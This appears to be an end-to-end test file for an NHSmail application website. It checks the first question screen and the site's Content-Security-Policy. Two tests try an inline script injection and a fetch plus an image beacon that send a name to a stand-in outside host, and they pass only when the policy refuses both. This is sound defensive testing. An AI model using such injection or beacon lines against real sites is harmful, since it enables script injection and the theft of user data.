// The site starts: from a folder, under its own policy, within what it may ask for.
import { mkdir, writeFile } from 'node:fs/promises';
import { QUESTIONS } from './screens.js';
import { expect, expectScreen, test } from './site.js';

test('the first question works, within what it may ask for', async ({ site, baseURL, requests }) => {
  await site.goto('');
  await site.getByRole('button', { name: 'Start now' }).click();
  await site.getByRole('link', { name: 'Can you apply?' }).click();
  await expectScreen(site, QUESTIONS['already-have-nhsmail']);
  await site.getByRole('radio', { name: 'No', exact: true }).check();
  await site.getByRole('button', { name: 'Continue' }).click();
  await expectScreen(site, QUESTIONS['kind-of-service']);

  const asked = requests.filter((url) => !url.startsWith('data:'));
  expect(new Set(asked).size, 'nothing is fetched twice').toBe(asked.length);
  // For the budgets, which weigh these very files.
  const folder = new URL('results/', import.meta.url);
  await mkdir(folder, { recursive: true });
  const paths = asked.filter((url) => url.startsWith(baseURL)).map((url) => `./${url.slice(baseURL.length)}`);
  await writeFile(new URL('requests.txt', folder), `${paths.join('\n')}\n`);
});

test('the policy trusts no inline script but the page’s own', async ({ page }) => {
  await page.goto('');
  const ran = await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.intruder = true';
    document.body.append(script);
    return window.intruder === true;
  });
  expect(ran).toBe(false);
});

test('the policy lets nothing out and nothing in', async ({ page, baseURL }) => {
  await page.goto('');
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  const directives = Object.fromEntries(policy.split(';').map((directive) => {
    const [name, ...sources] = directive.trim().split(/\s+/);
    return [name, sources];
  }));
  expect(directives['default-src']).toEqual(['\'none\'']);
  expect(directives['form-action']).toEqual(['\'none\'']);
  expect(directives['base-uri']).toEqual(['\'none\'']);
  expect(directives['connect-src']).toEqual(['\'self\'']);
  for (const source of directives['style-src']) expect(source).toMatch(/^'(self|sha256-[^']+)'$/);
  for (const source of directives['script-src']) expect(source).toMatch(/^'(self|wasm-unsafe-eval|sha(256|384|512)-[^']+)'$/);
  const refused = await page.evaluate(async () => {
    const attempts = [
      fetch('https://elsewhere.invalid/?name=Anna').then(() => 'fetched', () => 'refused'),
      new Promise((tell) => {
        const image = new Image();
        image.onload = () => tell('shown');
        image.onerror = () => tell('refused');
        image.src = 'https://elsewhere.invalid/x.png';
      }),
    ];
    return Promise.all(attempts);
  });
  expect(refused).toEqual(['refused', 'refused']);
  expect(page.url().startsWith(baseURL)).toBe(true);
});
